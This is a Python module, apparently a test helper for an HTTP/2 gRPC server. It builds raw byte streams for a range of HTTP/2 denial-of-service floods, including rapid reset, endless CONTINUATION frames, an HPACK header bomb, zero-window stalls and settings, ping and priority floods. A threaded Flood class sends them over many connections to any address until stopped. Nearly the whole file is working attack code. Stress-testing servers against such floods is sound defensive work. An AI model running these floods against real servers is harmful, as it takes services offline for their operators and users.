"""Floods of HTTP/2: for each, the bytes of one hostile connection, and how to send them for long."""
import itertools
import socket
import struct
import threading

from support.frames import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, HEALTH, PING, PREFACE, PRIORITY, RATE_LIMIT,
    SETTINGS, WINDOW_UPDATE, frame, head_of_call, integer, message, nested, reset, settings,
    window_update)

PIECE = 1 << 20  # bytes sent together


def continuation():
    """A header block that never ends."""
    yield frame(HEADERS, 0, 1, head_of_call(RATE_LIMIT))
    line = b'\0\1x' + integer(16000, 7) + b'v' * 16000
    while True:
        yield frame(CONTINUATION, 0, 1, line)


def empty_continuation():
    yield frame(HEADERS, 0, 1, head_of_call(RATE_LIMIT))
    while True:
        yield frame(CONTINUATION, 0, 1)


def indexed_head(path):
    """A call's header block as the first call of a connection sends it, and as each further one."""
    fields = [(':path', path), (':authority', 'h'), ('te', 'trailers'),
              ('content-type', 'application/grpc')]
    first = b''.join(b'\x40' + integer(len(name), 7) + name.encode() + integer(len(value), 7)
                     + value.encode() for name, value in fields)
    pseudo = b'\x83\x86'  # :method POST, :scheme http
    return pseudo + first, pseudo + bytes(0x80 | 65 - i for i in range(4))


def calls(path, first_stream=1):
    """Stream numbers with the header block of a call on each."""
    first, further = indexed_head(path)
    for stream in range(first_stream, 1 << 31, 2):
        yield stream, first if stream == first_stream else further


def rapid_reset():
    """Calls that are reset before they are complete."""
    for stream, head in calls(RATE_LIMIT):
        yield frame(HEADERS, END_HEADERS, stream, head) + reset(stream)


def reset_calls():
    """Whole calls that are reset."""
    for stream, head in calls(HEALTH + 'Check'):
        yield (frame(HEADERS, END_HEADERS, stream, head)
               + frame(DATA, END_STREAM, stream, message(b'')) + reset(stream))


def unfinished():
    """Calls that never end."""
    for stream, head in calls(RATE_LIMIT):
        yield frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, 0, stream, b'\0\0\0\xff\xff' * 8)


def watches():
    for stream, head in calls(HEALTH + 'Watch'):
        yield (frame(HEADERS, END_HEADERS, stream, head)
               + frame(DATA, END_STREAM, stream, message(b'')))


def unread():
    """Whole calls whose answers may not be sent: the window for them is closed."""
    yield settings(window=0)
    for stream, head in calls(HEALTH + 'Check'):
        yield (frame(HEADERS, END_HEADERS, stream, head)
               + frame(DATA, END_STREAM, stream, message(nested(1, b''))))


def heads():
    """The largest heads that are allowed, whose streams never end."""
    line = b'\0\1x' + integer(12000, 7) + b'v' * 12000
    for stream, head in calls(RATE_LIMIT):
        yield frame(HEADERS, END_HEADERS, stream, head + line)


def bodies():
    """Messages of nearly 64 KiB that miss the last byte."""
    for stream, head in calls(RATE_LIMIT):
        yield (frame(HEADERS, END_HEADERS, stream, head)
               + frame(DATA, 0, stream, struct.pack('>BI', 0, 65536) + bytes(16000))
               + 3 * frame(DATA, 0, stream, bytes(16000)))


def bomb():
    """A header block whose every byte means 4 KiB."""
    fat = b'\x40\1x' + integer(4000, 7) + b'v' * 4000
    for stream, head in calls(RATE_LIMIT):
        block = head + fat if stream == 1 else b'\xbe' * 16000
        yield frame(HEADERS, END_HEADERS, stream, block)


def tables():
    """Sizes of the header table that change all the time, and texts that fill it."""
    fat = b'\x40\1x' + integer(3900, 7) + b'v' * 3900
    for stream in range(1, 1 << 31, 2):
        yield (settings(table=stream % 2 * 0xffffffff)
               + frame(HEADERS, END_HEADERS, stream, b'\x20\x3f\xe1\x1f' + head_of_call(RATE_LIMIT) + fat))


def same(*frames):
    """These frames for ever."""
    def repeat():
        yield from itertools.repeat(b''.join(frames))
    return repeat


FLOODS = {
    'continuation': continuation,
    'empty continuation': empty_continuation,
    'rapid reset': rapid_reset,
    'reset calls': reset_calls,
    'unfinished': unfinished,
    'watches': watches,
    'unread': unread,
    'heads': heads,
    'bodies': bodies,
    'bomb': bomb,
    'tables': tables,
    'settings': same(settings(window=65535)),
    'large settings': same(frame(SETTINGS, payload=struct.pack('>HI', 4, 65535) * 2700)),
    'ping': same(frame(PING, payload=bytes(8))),
    'window update': same(window_update(0, 1)),
    'priority': same(*(frame(PRIORITY, stream=n, payload=struct.pack('>IB', n - 2, 7))
                       for n in range(3, 401, 2))),
    'empty data': lambda: itertools.chain(
        [frame(HEADERS, END_HEADERS, 1, head_of_call(RATE_LIMIT))],
        itertools.repeat(frame(DATA, 0, 1))),
    'unknown frames': same(frame(0xfa, payload=bytes(10))),
}

# Those that open no streams, so that a connection can send their frames again and again.
ENDLESS = ['continuation', 'empty continuation', 'settings', 'large settings', 'ping', 'window update',
           'priority', 'empty data', 'unknown frames']


def pieces(flood):
    """The flood's bytes in pieces of about a MiB, from its beginning."""
    frames = FLOODS[flood]()
    while True:
        piece, size = [], 0
        for one in frames:
            piece.append(one)
            size += len(one)
            if size >= PIECE:
                break
        yield b''.join(piece)


def recorded(flood, size=16 << 20):
    """The first `size` bytes of a flood, in pieces."""
    return list(itertools.islice(pieces(flood), size // PIECE))


class Flood:
    """Threads that send a flood of `size` bytes each, over as many connections as it takes.

    They read nothing. With `size` None they send until stop().
    """

    def __init__(self, address, flood, connections=2, size=None):
        self.address = address
        self.pieces = recorded(flood)
        self.endless = flood in ENDLESS
        self.size = size
        self.sent = 0
        self.connections = 0
        self.stopped = threading.Event()
        self.threads = [threading.Thread(target=self.run) for _ in range(connections)]
        for thread in self.threads:
            thread.start()

    def run(self):
        sent = 0
        while not self.stopped.is_set() and (self.size is None or sent < self.size):
            host, _, port = self.address.rpartition(':')
            with socket.create_connection((host, int(port)), 10) as connection:
                connection.settimeout(1)
                self.connections += 1
                sent += self.send(connection)
        self.sent += sent

    def send(self, connection):
        """Sends until the server closes or all is sent. Returns how many bytes it has sent."""
        count = 0
        try:
            connection.sendall(PREFACE + settings())
            for piece in self.play():
                rest = memoryview(piece)
                while rest:
                    if self.stopped.is_set():
                        return count
                    try:
                        sent = connection.send(rest)
                    except TimeoutError:  # the server waits until its answers are read
                        return count + PIECE
                    count += sent
                    rest = rest[sent:]
        except (ConnectionResetError, BrokenPipeError):
            return count + 4096
        return count

    def play(self):
        yield from self.pieces
        while self.endless:
            yield self.pieces[-1]

    def under_way(self):
        return any(thread.is_alive() for thread in self.threads)

    def stop(self):
        self.stopped.set()
        for thread in self.threads:
            thread.join()
